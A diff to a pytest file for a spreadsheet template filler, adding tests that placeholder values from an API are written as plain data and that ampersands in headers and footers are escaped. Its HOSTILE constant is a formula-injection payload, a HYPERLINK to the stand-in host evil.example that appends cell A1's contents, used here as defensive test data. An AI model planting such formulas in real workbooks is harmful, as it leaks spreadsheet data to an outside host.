@@ -315,7 +315,8 @@ def test_the_builtin_template_keeps_formats_widths_and_print_setup(tmp_path: Pat
         assert ws.page_setup.fitToWidth == old.page_setup.fitToWidth
         assert ws.print_title_rows == old.print_title_rows
         for letter, dim in old.column_dimensions.items():
-            assert ws.column_dimensions[letter].width == dim.width, (ws.title, letter)
+            # the template's width, or wider where a value needs it (test_xlsx_widths.py)
+            assert ws.column_dimensions[letter].width >= dim.width, (ws.title, letter)
     summary = wb["Summary"]
     assert summary["B6"].value == "=SUM(tblConsumption[MWh])"
     assert summary["B6"].number_format == before["Summary"]["B6"].number_format
@@ -373,3 +374,68 @@ def test_what_openpyxl_cannot_keep_is_reported(tmp_path: Path) -> None:
     template = Template.load(target)
     assert any("not supported" in w for w in template.load_warnings)
     assert set(template.slots) == {t.name for t in TABLES}  # still usable
+
+
+# ---- values from the API are data, never formulas or codes (issue 12) -----------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def _package_xml(path: Path) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(path) as z:
+        return "".join(
+            z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
+        )
+
+
+def hostile_template(wb: openpyxl.Workbook) -> None:
+    ws = wb["Cover"]
+    ws["A1"] = "{{legal_entity}}"
+    ws["A2"] = "{{legal_entity}} (id {{legal_entity_id}})"
+    ws["A3"] = '="Report for {{legal_entity}}"'
+    ws["A4"] = "=LEN({{legal_entity}})+{{threshold}}"
+    ws["A5"] = '=IF({{month_start}}>0,"{{ month }}","")'
+    ws.oddFooter.center.text = "{{legal_entity}} &P of &N"
+    ws.oddHeader.left.text = "{{legal_entity_id}}"
+
+
+@pytest.mark.parametrize("escape", [True, False])
+def test_a_placeholder_value_is_never_a_formula(tmp_path: Path, escape: bool) -> None:
+    values = {**VALUES, "legal_entity": HOSTILE, "legal_entity_id": "+1-2&P\x07"}
+    path = make(tmp_path, hostile_template)
+    wb = Template.load(path).fill(values, frames(), escape=escape)
+    out = tmp_path / "filled.xlsx"
+    wb.save(out)
+    xml = _package_xml(out)
+    formulas = re.findall(r"<f>(.*?)</f>", xml)
+    assert len(formulas) == 3  # the template's own three, and no more
+    code = [re.sub(r'"(?:[^"]|"")*"', '""', f) for f in formulas]  # string literals out
+    assert not [c for c in code if "HYPERLINK" in c or "A1" in c]
+    back = openpyxl.load_workbook(out)["Cover"]
+    assert back["A1"].value == HOSTILE and back["A1"].data_type == "s"
+    assert back["A1"].quotePrefix is escape
+    assert back["A2"].value == f"{HOSTILE} (id +1-2&P)"  # the bell character is gone
+    assert back["A2"].quotePrefix is escape
+    # in the template's own formulas the value is one string literal
+    assert back["A3"].value == '="Report for =HYPERLINK(""http://evil.example/?""&A1,""open"")"'
+    assert back["A4"].value == '=LEN("=HYPERLINK(""http://evil.example/?""&A1,""open"")")+0.02'
+    assert back["A5"].value == '=IF(DATE(2026,10,1)>0,"2026-10","")'
+    # headers and footers: & doubled, the template's own codes kept, no code from the value
+    assert wb["Cover"].oddFooter.center.text.startswith("=HYPERLINK(")
+    assert "&&A1" in wb["Cover"].oddFooter.center.text
+    assert wb["Cover"].oddFooter.center.text.endswith(" &P of &N")
+    assert wb["Cover"].oddHeader.left.text == "+1-2&&P"
+
+
+def test_ampersands_in_a_footer_print_as_written(tmp_path: Path) -> None:
+    def build(wb: openpyxl.Workbook) -> None:
+        wb["Cover"].oddFooter.left.text = "{{legal_entity}}"
+
+    wb = Template.load(make(tmp_path, build)).fill(
+        {**VALUES, "legal_entity": "S&P Strom & Gas"}, frames()
+    )
+    out = tmp_path / "filled.xlsx"
+    wb.save(out)
+    assert "<oddFooter>&amp;LS&amp;&amp;P Strom &amp;&amp; Gas</oddFooter>" in _package_xml(out)
